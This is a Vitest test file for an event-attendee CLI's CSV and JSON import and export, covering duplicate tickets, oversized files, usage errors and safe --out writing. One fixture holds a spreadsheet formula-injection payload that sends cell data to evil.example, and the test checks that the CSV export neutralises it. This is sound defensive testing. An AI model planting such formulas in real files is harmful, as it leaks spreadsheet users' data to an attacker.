import fs from 'node:fs'
import path from 'node:path'
import { afterEach, beforeEach, expect, test } from 'vitest'
import { type BackendGateway, createBackendGateway, testDir } from '../helpers/gateway.js'
import { seedGuestEvent } from './guestEvent.js'
import { backendCli } from '../helpers/backendCli.js'
import { TOOL_EXPORTS } from './toolExports.js'

// `tapgate attendees import|export` as users run it: the real bin, on this run's engine (the data dir's
// SQLite file, or the test's PostgreSQL database through TAPGATE_DATABASE_URL).

const fixtures = path.join(import.meta.dirname, '../fixtures/attendees')
const CHIP = '04A1B2C3D4E5F6'

let gw: BackendGateway
let eventId: number

beforeEach(async () => {
  gw = await createBackendGateway()
  eventId = (await seedGuestEvent(gw, { chips: [{ uid: CHIP }] })).eventId
})
afterEach(async () => {
  killAll()
  await gw.close()
})

const { run: cli, killAll } = backendCli(() => gw)

const fixture = (name: string) => path.join(fixtures, name)
const count = () => gw.store.attendees.countEvent(eventId)

// Each tool's export as a user downloads it, through the bin, without options: the header row says which tool.
test.each(TOOL_EXPORTS)('tapgate attendees import %s', async (file, format, imported) => {
  const result = await cli('attendees', 'import', '--event', String(eventId), '--json', fixture(file))
  expect(result).toMatchObject({ code: 0, stderr: '' })
  expect(JSON.parse(result.stdout)).toMatchObject({ eventId, format, imported, inserted: imported, updated: 0 })
  expect(await count()).toBe(imported)
})

test('import prints what it did; a re-import updates in place; --json prints the report', async () => {
  const first = await cli('attendees', 'import', '--event', String(eventId), fixture('pretix-checkin.csv'))
  expect(first).toMatchObject({ code: 0, stderr: '' })
  expect(first.stdout).toBe(
    `${fixture('pretix-checkin.csv')}: pretix check-in list, 3 guests imported into event ${eventId} (3 new, 0 updated), 0 chips bound\n` +
      'Guests already on the list and not in this file stay, with their check-ins.\n',
  )
  const again = await cli('attendees', 'import', '--event', String(eventId), '--json', fixture('pretix-checkin.csv'))
  expect(JSON.parse(again.stdout)).toMatchObject({ eventId, format: 'pretix-checkin', imported: 3, inserted: 0, updated: 3, skipped: [], warnings: [] })
  const luma = await cli('attendees', 'import', '--event', String(eventId), fixture('luma.csv'))
  expect(luma.stdout).toContain('Luma guest list, 2 guests imported')
  expect(luma.stdout).toContain('  skipped line 4 (b3Yc9rTe): approval status waitlist\n')
  expect(await count()).toBe(5)
})

test('--map reads any CSV and binds its chips; export as CSV (formulas made safe) and JSON (raw), to stdout or --out', async () => {
  const map = 'name=Guest,email=Mail,ticket=Barcode,type=Pass,chip=Wristband,wallet=Wallet'
  const imported = await cli('attendees', 'import', '--event', String(eventId), '--map', map, fixture('custom.csv'))
  expect(imported.stdout).toContain('--map, 3 guests imported')
  expect(imported.stdout).toContain('1 chip bound')
  const csv = await cli('attendees', 'export', '--event', String(eventId))
  expect(csv.code).toBe(0)
  const lines = csv.stdout.split('\r\n')
  expect(lines[0]).toBe('\uFEFFticket_code,name,email,ticket_type,wallet,note,needs_attention,paid,chips,checked_in_at,check_in_station,check_in_method,left_at,exits,reentries,mint_state,mint_tx_hash')
  expect(lines[1]).toBe(`BC-0002,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",mallory@example.com,GA,,,no,yes,,,,,,,,none,`)
  expect(lines[2]).toBe(`BC-0001,Ada Lovelace,ada@example.com,VIP,0x5FbDB2315678afecb367f032d93F642f64180aa3,,no,yes,${CHIP},,,,,,,none,`)
  const out = path.join(testDir(), 'guests.json')
  expect(await cli('attendees', 'export', '--event', String(eventId), '--format', 'json', '--out', out)).toMatchObject({ code: 0, stdout: '' })
  const json = JSON.parse(fs.readFileSync(out, 'utf8'))
  expect(json.attendees[0]).toMatchObject({ name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")', chips: [], checkIn: null })
})

test('a duplicate ticket code: exit 1 naming both lines, nothing imported', async () => {
  const file = path.join(testDir(), 'dup.csv')
  fs.writeFileSync(file, fs.readFileSync(fixture('tito.csv'), 'utf8').replace('KX7Q', 'GIAO-1'))
  const result = await cli('attendees', 'import', '--event', String(eventId), file)
  expect(result).toMatchObject({ code: 1, stdout: '' })
  expect(result.stderr).toBe(
    'tapgate: 1 problem in the Tito tickets file; nothing was imported\n  - line 4, Ticket Reference: Ticket code "GIAO-1" is on line 2 too: each ticket once\n',
  )
  expect(await count()).toBe(0)
})

test('an unknown column under --map is an error naming it', async () => {
  const result = await cli('attendees', 'import', '--event', String(eventId), '--map', 'name=Guest,ticket=Code', fixture('custom.csv'))
  expect(result.code).toBe(1)
  expect(result.stderr).toContain('tapgate: --map names a column the file does not have: "Code"\n  - map.ticket: No column "Code" in the file\n')
})

test('10 MB of garbage: a clear error, exit 1, quickly; over 50 MB refused before it is read', async () => {
  const dir = testDir()
  const garbage = path.join(dir, 'garbage.csv')
  const bytes = Buffer.alloc(10 * 1024 * 1024)
  for (let i = 0; i < bytes.length; i += 65536) crypto.getRandomValues(bytes.subarray(i, i + 65536))
  fs.writeFileSync(garbage, bytes)
  const started = Date.now()
  const result = await cli('attendees', 'import', '--event', String(eventId), garbage)
  expect(result).toMatchObject({ code: 1, stdout: '' })
  // Random bytes are neither UTF-8 nor Windows-1252 (its first non-ASCII byte may start a UTF-8 character, and later ones break it).
  expect(result.stderr).toMatch(/^tapgate: The file (is neither UTF-8 nor Windows-1252 text: export it again as CSV \(UTF-8\), e\.g\. Excel's "CSV UTF-8"|is not text: it holds a NUL byte \(line \d+\))\n$/)
  expect(Date.now() - started).toBeLessThan(10_000)
  const huge = path.join(dir, 'huge.csv')
  fs.writeFileSync(huge, '')
  fs.truncateSync(huge, 60 * 1024 * 1024)
  expect((await cli('attendees', 'import', '--event', String(eventId), huge)).stderr).toBe('tapgate: The file is 60.0 MB; a guest list may be at most 50 MB\n')
  expect(await count()).toBe(0)
})

test('usage errors exit 2; an unknown event exits 1', async () => {
  expect((await cli('attendees', 'import', fixture('tito.csv'))).stderr).toBe('tapgate: --event is required (see tapgate --help)\n')
  expect((await cli('attendees', 'export', '--event', 'x')).code).toBe(2)
  expect((await cli('attendees', 'export', '--event', '1', '--format', 'xlsx')).stderr).toBe('tapgate: --format takes csv or json (see tapgate --help)\n')
  expect((await cli('attendees', 'frob')).code).toBe(2)
  const unknown = await cli('attendees', 'import', '--event', '999', fixture('tito.csv'))
  expect(unknown).toMatchObject({ code: 1, stderr: 'tapgate: No guestbook event matches\n' })
})

test('export --out (issue 24): a new file of mode 0600; an existing file, a link to one and a dangling link are refused and left as they were', async () => {
  await cli('attendees', 'import', '--event', String(eventId), fixture('tito.csv'))
  const dir = testDir()
  const out = path.join(dir, 'guests.csv')
  expect(await cli('attendees', 'export', '--event', String(eventId), '--out', out)).toMatchObject({ code: 0, stdout: '', stderr: '' })
  expect(fs.statSync(out).mode & 0o777).toBe(0o600)
  expect(fs.readFileSync(out, 'utf8')).toMatch(/^\uFEFFticket_code,name,/)

  const existing = path.join(dir, 'notes.txt')
  fs.writeFileSync(existing, 'my notes\n', { mode: 0o644 })
  const target = path.join(dir, 'target.txt')
  fs.writeFileSync(target, 'not yours\n')
  const link = path.join(dir, 'link.csv')
  fs.symlinkSync(target, link)
  const dangling = path.join(dir, 'dangling.csv')
  fs.symlinkSync(path.join(dir, 'nowhere.csv'), dangling)
  for (const file of [existing, link, dangling, out]) {
    const result = await cli('attendees', 'export', '--event', String(eventId), '--out', file)
    expect(result).toMatchObject({ code: 2, stdout: '' })
    expect(result.stderr).toBe(`tapgate: --out: ${file} already exists; give a new file name (an export never writes over a file, nor through a link) (see tapgate --help)\n`)
  }
  expect(fs.readFileSync(existing, 'utf8')).toBe('my notes\n')
  expect(fs.readFileSync(target, 'utf8')).toBe('not yours\n')
  expect(fs.existsSync(path.join(dir, 'nowhere.csv'))).toBe(false)
  // A wrong event leaves no empty file behind.
  const none = path.join(dir, 'none.csv')
  expect(await cli('attendees', 'export', '--event', '999', '--out', none)).toMatchObject({ code: 1, stderr: 'tapgate: No guestbook event matches\n' })
  expect(fs.existsSync(none)).toBe(false)
})
